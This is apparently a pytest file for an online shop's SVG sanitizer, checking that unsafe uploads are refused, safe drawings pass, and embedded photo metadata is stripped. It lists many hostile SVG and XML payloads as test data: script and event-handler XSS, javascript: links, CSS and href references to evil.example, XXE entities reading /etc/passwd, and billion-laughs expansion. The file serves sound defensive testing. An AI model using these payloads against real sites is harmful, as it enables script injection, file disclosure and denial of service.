"""An SVG is written anew from allowed words; what acts or reaches out refuses the whole file."""

import base64
import io
from pathlib import Path

import pytest
from PIL import Image

from shop.pictures import svg
from shop.pictures.cleaning import clean_picture
from shop.pictures.model import Refused

PROJECT = Path(__file__).resolve().parents[2]
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


def drawing(inside: str) -> bytes:
    return f"{HEAD}{inside}</svg>".encode()


def picture() -> str:
    exif = Image.Exif()
    exif[0x0110] = "Secret Camera"
    output = io.BytesIO()
    Image.new("RGB", (8, 8)).save(output, "JPEG", exif=exif)
    return base64.b64encode(output.getvalue()).decode()


ATTACKS = [
    "<script>alert(1)</script>",
    '<script href="//evil.example/a.js"/>',
    '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "<foreignObject><p>x</p></foreignObject>",
    '<body xmlns="http://www.w3.org/1999/xhtml"/>',
    '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="x"/>',
    "<iframe/>",
    '<rect onclick="alert(1)"/>',
    '<rect ONLOAD="alert(1)"/>',
    '<rect x:onload="alert(1)" xmlns:x="urn:x"/>',
    '<a href="https://evil.example"><rect/></a>',
    '<a xlink:href="javascript:alert(1)"><rect/></a>',
    '<use href="https://evil.example/a.svg#x"/>',
    '<use xlink:href="other.svg#x"/>',
    '<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
    '<image href="https://evil.example/track.png"/>',
    '<image href="/etc/passwd"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    '<image href="data:image/png;base64,PHN2Zy8+"/>',
    '<image href="data:text/html;base64,AAAA"/>',
    '<feImage href="https://evil.example/a.png"/>',
    '<rect fill="url(https://evil.example/a.svg#p)"/>',
    '<rect fill="url(&quot;//evil.example&quot;)"/>',
    '<rect style="fill:url(//evil.example/#a)"/>',
    '<rect style="fill:u\\72l(//evil.example)"/>',
    "<rect style=\"background:image-set('//evil.example' 1x)\"/>",
    '<rect filter="url( https://evil.example/ )"/>',
    "<style>@import '//evil.example/a.css';</style>",
    "<style>@im<!-- -->port '//evil.example/a.css';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
    "<style><![CDATA[rect{fill:url(//evil.example)}]]></style>",
    "<style>rect{fill:\\75rl(//evil.example)}</style>",
    "<style>rect{width:expression(alert(1))}</style>",
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<animate attributeName="xlink:href" values="javascript:alert(1)"/>',
    '<animate attributeName="onclick" to="alert(1)"/>',
    '<animate attributeName="fill" to="url(//evil.example)"/>',
    "<audio/>",
    "<g>" * 300 + "</g>" * 300,
]


@pytest.mark.parametrize("inside", ATTACKS)
def test_what_acts_or_reaches_out_is_refused(inside: str) -> None:
    with pytest.raises(Refused):
        svg.clean(drawing(inside))


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        b'<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]><svg/>',
        b'<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>',
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x"><svg>&unknown;</svg>',
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x" [<!ENTITY a "b">]><svg/>',
        b"<svg>&nbsp;</svg>",
        b'<?xml-stylesheet href="//evil.example/a.css"?><svg/>',
        b"<html><svg/></html>",
        b'<svg xmlns="http://www.w3.org/1999/xhtml"/>',
        b"<svg><g></svg>",
        b"<svg",
        b"\xff\xfe<\0s\0v\0g\0>\0<\0s\0c\0r\0i\0p\0t\0/\0>\0<\0/\0s\0v\0g\0>\0",
        b'<?xml version="1.0" encoding="utf-7"?><svg>+ADw-script+AD4-</svg>',
        b"<svg>" + b" " * (5 * 1024 * 1024) + b"</svg>",
        b"<svg>" + b"<g/>" * 100_001 + b"</svg>",
    ],
)
def test_documents_that_are_more_than_drawings_are_refused(content: bytes) -> None:
    with pytest.raises(Refused):
        svg.clean(content)


def test_billion_laughs_end_before_they_begin() -> None:
    laughs = "".join(f"<!ENTITY l{i} '" + ten(f"&l{i - 1};") + "'>" for i in range(1, 12))
    with pytest.raises(Refused, match="document type"):
        svg.clean(f"<!DOCTYPE svg [<!ENTITY l0 'ha'>{laughs}]><svg>&l11;</svg>".encode())


def ten(text: str) -> str:
    return text * 10


def test_uses_of_uses_without_end_are_counted() -> None:
    levels = [f"<g id='l{i}'>" + ten(f"<use href='#l{i - 1}'/>") + "</g>" for i in range(1, 10)]
    with pytest.raises(Refused, match="over and over"):
        svg.clean(drawing("<g id='l0'><rect/></g>" + "".join(levels)))


def test_patterns_of_patterns_are_counted_too() -> None:
    levels = [
        f"<pattern id='p{i}'>" + ten(f"<rect fill='url(#p{i - 1})'/>") + "</pattern>"
        for i in range(1, 10)
    ]
    with pytest.raises(Refused, match="over and over"):
        svg.clean(drawing("<pattern id='p0'><rect/></pattern>" + "".join(levels)))


def test_an_element_that_uses_itself_ends() -> None:
    assert svg.clean(drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'))


def test_what_draws_stays_and_what_is_of_no_use_goes() -> None:
    cleaned = svg.clean(
        b'<?xml version="1.0" encoding="iso-8859-1"?>\n<!-- by A. Person -->\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://inkscape.example/ns" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" width="40px" height="30" i:version="1">'
        b"<metadata><rdf xmlns='urn:rdf'>A. Person, 16.07 N 108.33 E</rdf></metadata>"
        b"<i:namedview><rect/></i:namedview><title>Caf\xe9 &amp; tea</title>"
        b"<style>.a > .b{fill:#fff}</style>"
        b'<g id="x" data-name="Layer (1)" style="opacity:.5" transform="translate(1,2)">'
        b'<use xlink:href="#x" fill="url(#y)"/></g></svg>'
    )
    assert cleaned.content.decode() == (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40px" height="30">'
        "<title>Café &amp; tea</title><style>.a &gt; .b{fill:#fff}</style>"
        '<g id="x" style="opacity:.5" transform="translate(1,2)">'
        '<use href="#x" fill="url(#y)"/></g></svg>'
    )
    assert (cleaned.width, cleaned.height) == (40, 30)


def test_a_photo_inside_a_drawing_is_cleaned_as_well() -> None:
    cleaned = svg.clean(drawing(f'<image href="data:image/jpeg;base64,{picture()}"/>'))
    inner = cleaned.content.split(b"base64,")[1].split(b'"')[0]
    assert b"Secret Camera" not in base64.b64decode(inner)
    assert not Image.open(io.BytesIO(base64.b64decode(inner))).getexif()


def test_text_cannot_break_out_of_its_place() -> None:
    cleaned = svg.clean(drawing('<text id="a&quot;&gt;&lt;script&gt;">&lt;script&gt;]]&gt;</text>'))
    assert b"<script" not in cleaned.content
    assert svg.clean(cleaned.content).content == cleaned.content


def test_the_shop_s_own_drawings_pass_unchanged() -> None:
    files = sorted((PROJECT / "content" / "products" / "pictures").glob("*.svg"))
    assert files
    for file in files:
        content = file.read_bytes()
        cleaned = svg.clean(content)
        assert svg.clean(cleaned.content).content == cleaned.content
        assert cleaned.content == content.rstrip(), file.name


def test_it_goes_through_the_same_door_as_every_picture() -> None:
    assert clean_picture(b"\xef\xbb\xbf " + drawing("<rect/>"), "a.svg").kind == "svg"
